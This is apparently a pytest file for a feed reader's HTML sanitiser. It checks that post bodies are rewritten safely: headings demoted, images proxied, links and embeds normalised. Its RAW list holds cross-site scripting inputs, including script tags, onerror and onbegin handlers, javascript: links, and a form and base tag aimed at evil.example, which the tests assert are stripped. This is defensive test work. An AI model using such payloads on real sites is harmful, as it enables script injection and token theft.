"""Bodies of posts in our own markup: a table of sanitised bodies and their results, and the worst cases."""

from __future__ import annotations

import pytest

from microsub.formats.html.sanitise import clean_html
from microsub.reader.reading.body import body_fitter, excerpt, with_moments

BASE = "https://a.example/"

CASES = [
    ("plain words", "plain words"),
    ("<p>One <b>two</b></p>", "<p>One <b>two</b></p>"),
    ("<h1>a</h1><h2>b</h2><h3>c</h3>", "<h3>a</h3><h3>b</h3><h4>c</h4>"),
    ("<main><article>x</article></main>", "<div><div>x</div></div>"),
    ("<tt>x</tt><strike>y</strike>", "<code>x</code><s>y</s>"),
    ('<img src="/x.png" alt="X">', '<img alt="X" src="/image/https://a.example/x.png" loading="lazy">'),
    ('<img srcset="/x.png 1x, /y.png 2x">', '<img alt="" src="/image/https://a.example/x.png" loading="lazy">'),
    ('<a href="/x">y</a>', '<a href="https://a.example/x" rel="noopener noreferrer nofollow">y</a>'),
    ('<code class="language-python">x</code>', '<code class="language-python">x</code>'),
    ("<p id=main class=post data-id=1 role=feed>x</p>", "<p>x</p>"),
    ("a &lt;script&gt; b", "a &lt;script&gt; b"),
    (
        '<table><tr><td align="right">1<td align="x">2</table>',
        '<table><tbody><tr><td align="right">1</td><td>2</td></tr></tbody></table>',
    ),
    (
        '<iframe src="https://www.youtube.com/embed/abcdefghijk" title="Tide &amp; ebb"></iframe>',
        '<a href="https://www.youtube.com/watch?v=abcdefghijk" rel="noopener noreferrer nofollow">'
        '<img src="/image/https://i.ytimg.com/vi/abcdefghijk/hqdefault.jpg" alt="" loading="lazy"><br>'
        "▶ Tide &amp; ebb (youtube.com)</a> ",
    ),
    (
        '<video src="/v.mp4" poster="/p.jpg"></video>',
        '<a href="https://a.example/v.mp4" rel="noopener noreferrer nofollow">'
        '<img src="/image/https://a.example/p.jpg" alt="" loading="lazy"><br>▶ a.example</a> ',
    ),
    (
        '<img src="/x.png" alt="X" title="He never came &lt;back&gt;.">',
        '<img alt="X" src="/image/https://a.example/x.png" title="He never came &lt;back&gt;." loading="lazy"><br>'
        "<small>He never came &lt;back&gt;.</small>",
    ),
    (
        '<img src="/x.png" alt="" title="IMG_1">',
        '<img alt="" src="/image/https://a.example/x.png" title="IMG_1" loading="lazy">',
    ),
]


@pytest.mark.parametrize(("html", "fitted"), CASES)
def test_bodies_of_posts_are_fitted_into_the_page(html: str, fitted: str) -> None:
    """It has no id or class of ours, and its headings are below the post's own."""
    assert body_fitter(lambda url: f"/image/{url}")(clean_html(html, BASE)) == fitted


def test_a_footnote_is_reached_inside_its_post() -> None:
    """Its id can't be one of ours, and no other id and no other relative link is kept."""
    fit = body_fitter(lambda url: url)
    fitted = fit(clean_html('<a href="#fn">1</a><p id="fn">x</p>', BASE))
    goal = fitted.partition('href="#')[2].partition('"')[0]
    assert f'<p id="{goal}">x</p>' in fitted
    assert goal.startswith("n")
    assert fit('<a href="#main">x</a><p id="main">y</p><p id="#n12345678-a">z</p>') == (
        '<a rel="noopener noreferrer nofollow">x</a><p>y</p><p>z</p>'
    )


def test_links_that_leave_the_server_open_a_tab() -> None:
    """As the page says, whatever their publisher wrote; other links and pictures don't."""
    fit = body_fitter(lambda url: f"/image/{url[-1]}", picture="Picture", leaves=lambda url: url.startswith(BASE))
    own = '<a href="#fn" target="_blank">1</a><p id="fn"><img src="/1"></p><a href="mailto:ann@a.example">Ann</a>'
    assert "target" not in fit(clean_html(own, BASE))
    fitted = fit(clean_html('<a title="a > b" href="/x?a=1&amp;b=2" target="x"><img src="/1"></a>', BASE))
    assert fitted.count("target") == fitted.count(' target="_blank"><img') == 1
    # Tags in the values of attributes don't end them, since `nh3` writes them as references.
    split = '<img src="/1" alt="&lt;a "><a href="/x" title="y&gt;&lt;form action=/z&gt;"><b>x</b></a>'
    for body in (split, clean_html(split, BASE)):
        assert "<form" not in fit(body)


RAW = [
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    '<a href="javascript:ran(1)">x</a>',
    '<iframe srcdoc="<script>ran(1)</script>"></iframe>',
    '<style>body{display:none}</style><p style="position:fixed">x</p>',
    "<form action=https://evil.example/><input name=form_token><button>x</button></form>",
    '<svg><animate onbegin="ran(1)"></svg>',
    '<a href="/account/ran(1)">x</a><a href="//evil.example/ran(1)">x</a>',
    "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
]


@pytest.mark.parametrize("html", RAW)
def test_unsanitised_bodies_run_nothing(html: str) -> None:
    """The second defence: even without sanitising, nothing in it would run, style the page or send requests."""
    fitted = body_fitter(lambda url: f"/image/{url}")(html)
    for word in ("ran(", "onerror", "onbegin", "javascript:", "style", "<form", "<input", "<base", "<meta", "srcdoc"):
        assert word not in fitted


def test_a_body_full_of_times_grows_little() -> None:
    """However long the address of the file is: the first times are links, the others stay text."""
    for length in (10, 2_000, 200_000):
        times = "1:23 " * 50_000
        shown = with_moments(f"<p>{times}</p><p>{times}</p>", f"https://a.example/{'x' * length}", 0)
        assert len(shown) - 2 * len(times) < 150_000
        assert shown.count("data-start") == (0 if length > 100_000 else 100_000 // (length + 118))


def test_an_excerpt_ends_between_words() -> None:
    """The page shows that there is more."""
    assert excerpt("a  few\nwords") == "a few words"
    long = excerpt("word " * 200)
    assert long.endswith("word …")
    assert len(long) < 330


def test_pictures_are_links_to_themselves() -> None:
    """Not those that are links already, nor small ones in a line of text; each link has a name."""
    fit = body_fitter(lambda url: f"/image/{url[-1]}", picture="Picture")
    named = '<img src="https://a.example/1" alt="A > cat">'
    assert '<a href="/image/1" data-whole><img ' in fit(named)
    assert '<a href="/image/1" aria-label="Picture" data-whole>' in fit('<img src="https://a.example/1">')
    linked = '<p><a href="https://a.example/">see <img src="https://a.example/1" alt=""></a></p>'
    assert "data-whole" not in fit(linked)
    assert "data-whole" not in fit('<img src="https://a.example/1" alt=":)" width="20" height="20">')
    assert fit(linked + named).count("data-whole") == 1
